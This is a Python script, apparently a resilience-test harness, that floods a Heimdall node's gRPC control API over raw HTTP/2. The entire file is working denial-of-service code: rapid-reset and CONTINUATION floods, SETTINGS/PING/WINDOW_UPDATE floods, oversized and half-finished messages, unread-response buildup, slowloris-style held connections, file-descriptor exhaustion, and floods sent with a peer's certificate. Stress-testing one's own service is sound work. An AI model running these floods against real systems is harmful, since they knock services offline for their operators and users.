#!/usr/bin/env python3
"""Attacks a node's control API: flood.py KIND ADDRESS PORT [SECONDS [PEER_ID]]. Prints the outcome as one JSON object."""
import contextlib
import json
import os
import resource
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CLIENT_HELLO = bytes.fromhex("16030102000100")  # a record that promises 512 bytes


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path):
    """The header block of a gRPC call: pseudo headers by their place in HPACK's table, the rest in full."""
    return (b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01x" + literal(b"content-type", b"application/grpc") +
            literal(b"te", b"trailers"))


NODES = request(b"/dev.ehazlett.heimdall.api.v1.Heimdall/Nodes")
EMPTY_MESSAGE = bytes(5)


def dial(begin=PREFACE + frame(SETTINGS, 0, 0), receive=None):
    """`receive`: bytes that the kernel may keep of the answers."""
    sock = socket.socket()
    sock.settimeout(10)
    if receive:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    sock.connect(ADDRESS)
    sock.sendall(begin)
    return sock


def push(sock, chunks, seconds=20, patience=3):
    """Sends the chunks without reading answers. Returns how many bytes were sent, and whether the other side closed."""
    sent, end = 0, time.monotonic() + seconds
    sock.settimeout(1)
    try:
        for chunk in chunks:
            sock.sendall(chunk)
            sent += len(chunk)
            if time.monotonic() > end:
                break
    except (BrokenPipeError, ConnectionResetError):
        return {"sent": sent, "ended": True}
    except TimeoutError:
        return {"sent": sent, "ended": is_closed(sock, patience), "stuck": True}
    return {"sent": sent, "ended": is_closed(sock, patience)}


def is_closed(sock, seconds=3):
    """Reads until the other side ends the connection."""
    sock.settimeout(seconds)
    try:
        while sock.recv(1 << 16):
            pass
    except TimeoutError:
        return False
    except OSError:
        pass
    return True


def rapid_reset():
    def chunks():
        for batch in range(400):
            streams = range(batch * 200 + 1, batch * 200 + 201, 2)
            yield b"".join(frame(HEADERS, 5, n, NODES) + frame(RST_STREAM, 0, n, struct.pack(">I", 8)) for n in streams)
    return push(dial(), chunks())


def continuation():
    def chunks():
        yield frame(HEADERS, 1, 1, NODES)  # and no END_HEADERS
        for _ in range(4000):
            yield frame(CONTINUATION, 0, 1, literal(b"x" * 100, b"y" * 120) * 70)
    return push(dial(), chunks())


def repeated(one, count):
    def chunks():
        for _ in range(count // 100):
            yield one * 100
    return push(dial(), chunks())


def settings():
    return repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 30), 20000)


def ping():
    return repeated(frame(PING, 0, 0, bytes(8)), 100000)


def empty_data():
    def chunks():
        yield frame(HEADERS, 4, 1, NODES)
        for _ in range(1000):
            yield frame(DATA, 0, 1) * 100
    return push(dial(), chunks())


def priority():
    return repeated(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)), 100000)


def window_update():
    return repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 100000)


def gibibyte():
    """One message of 1 GiB, as far as the window allows."""
    def chunks():
        yield frame(HEADERS, 4, 1, NODES)
        yield frame(DATA, 0, 1, struct.pack(">BI", 0, 1 << 30) + bytes(16000))
        for _ in range(2000):
            yield frame(DATA, 0, 1, bytes(16384))
    return push(dial(), chunks(), patience=0.5)


def halves():
    """Messages of 4 MiB without their end, four over each of many connections, all of which stay open."""
    part = frame(DATA, 0, 1, bytes(16384)) * 200
    held, ended = [], 0
    for _ in range(16):
        held.append(dial())
        with contextlib.suppress(OSError):
            for stream in range(1, 9, 2):
                begin = frame(DATA, 0, stream, struct.pack(">BI", 0, 4 << 20))
                held[-1].sendall(frame(HEADERS, 4, stream, NODES) + begin + part.replace(frame(DATA, 0, 1, b"")[3:],
                                                                                         frame(DATA, 0, stream, b"")[3:]))
    for sock in held:
        ended += is_closed(sock, 0.05)
    return {"connections": len(held), "ended": ended}


def unread():
    """Asks for answer after answer and reads none."""
    sock = dial(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7fffffff)) +
                frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7ffffff)), receive=1 << 18)

    def chunks():
        # more than a kernel keeps for the node, which may be 32 MiB and more
        for first in range(1, 2000001, 128):
            yield b"".join(frame(HEADERS, 4, stream, NODES) + frame(DATA, 1, stream, EMPTY_MESSAGE)
                           for stream in range(first, first + 128, 2))
    return push(sock, chunks(), 20, 0.5)


def garbage():
    ended = 0
    for _ in range(200):
        with dial(os.urandom(2000)) as sock:
            ended += is_closed(sock, 10)  # some look like the beginning of a protocol
    return {"ended": ended}


def field(number, text):
    """A string of a protobuf message."""
    return bytes([number << 3 & 0x7f | 2 | (0x80 if number > 15 else 0)]) + (bytes([number >> 4]) if number > 15 else b"") + \
        bytes([len(text)]) + text


def as_peer():
    """A connection with the certificate of a peer."""
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.load_cert_chain("/tmp/peer.pem", "/tmp/peer.key")
    tls.set_alpn_protocols(["h2"])
    return tls.wrap_socket(socket.create_connection(ADDRESS, timeout=10))


CONNECT = request(b"/dev.ehazlett.heimdall.api.v1.Heimdall/Connect")


def connects():
    """An authorized peer: changes of its own record, 95 in each connection, which it leaves at once."""
    calls, ended, end = 0, 0, time.monotonic() + SECONDS
    while time.monotonic() < end:
        out = PREFACE + frame(SETTINGS, 0, 0)
        for stream in range(1, 191, 2):
            message = (field(1, PEER_ID) + field(2, b"client") + field(100, b"Cg" + b"A" * 41 + b"=") +
                       field(101, f"v{calls}".encode()))
            out += frame(HEADERS, 4, stream, CONNECT) + frame(DATA, 1, stream, struct.pack(">BI", 0, len(message)) + message)
            calls += 1
        with contextlib.suppress(OSError), as_peer() as sock:
            sock.sendall(out)
            sock.recv(1)
            ended += 1
    return {"calls": calls, "connections": ended}


def reconnects():
    """An authorized peer: Connects that change nothing, with their answers read."""
    calls, end = 0, time.monotonic() + SECONDS
    message = field(1, PEER_ID) + field(2, b"client") + field(100, b"Cg" + b"A" * 41 + b"=")
    data = struct.pack(">BI", 0, len(message)) + message
    while time.monotonic() < end:
        with contextlib.suppress(OSError), as_peer() as sock:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for stream in range(1, 2001, 2):
                sock.sendall(frame(HEADERS, 4, stream, CONNECT) + frame(DATA, 1, stream, data))
                sock.settimeout(0.01)
                with contextlib.suppress(TimeoutError):
                    sock.recv(65536)
                calls += 1
                if time.monotonic() > end:
                    break
    return {"calls": calls}


def unfinished():
    """An authorized peer: 300 connections of 100 calls that have headers and no request."""
    block = CONNECT + literal(b"a", b"b" * 120) * 70
    out = PREFACE + frame(SETTINGS, 0, 0) + b"".join(frame(HEADERS, 4, stream, block) for stream in range(1, 201, 2))
    held = []
    for _ in range(300):
        with contextlib.suppress(OSError):
            held.append(as_peer())
            held[-1].sendall(out)
    time.sleep(1)
    return {"connections": len(held), "ended": sum(is_closed(sock, 0.01) for sock in held)}


def hold(count, begin, drip, seconds):
    """`count` connections that say `begin`, then a byte of `drip` every second."""
    socks, refused = [], 0
    for _ in range(count):
        try:
            sock = socket.create_connection(ADDRESS, timeout=5)
            sock.sendall(begin)
            sock.setblocking(False)
            socks.append(sock)
        except OSError:
            refused += 1
    print("held", flush=True)
    ended, end = set(), time.monotonic() + seconds
    for turn in range(10000):
        if time.monotonic() > end:
            break
        time.sleep(0.5 if drip else 1)
        for sock in socks:
            if sock in ended:
                continue
            try:
                if drip and turn % 2 == 0:
                    sock.send(drip[turn // 2 % len(drip):][:1])
                if sock.recv(1 << 16) == b"":
                    ended.add(sock)
            except BlockingIOError:
                pass
            except OSError:
                ended.add(sock)
    return {"connected": len(socks), "refused": refused, "ended": len(ended)}


def idle():
    return hold(10000, b"", b"", SECONDS)


def strangers():
    """More than a process with 1,024 descriptors can hold."""
    return hold(1500, b"", b"", SECONDS)


def idle_clients():
    return hold(10000, PREFACE + frame(SETTINGS, 0, 0), b"", SECONDS)


def slow_hello():
    return hold(400, b"", CLIENT_HELLO * 10, SECONDS)


def slow_preface():
    return hold(400, b"", PREFACE * 10, SECONDS)


if __name__ == "__main__":
    kind, ADDRESS = sys.argv[1], (sys.argv[2], int(sys.argv[3]))
    SECONDS = float(sys.argv[4]) if len(sys.argv) > 4 else 8
    PEER_ID = sys.argv[5].encode() if len(sys.argv) > 5 else b""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(globals()[kind]()), flush=True)
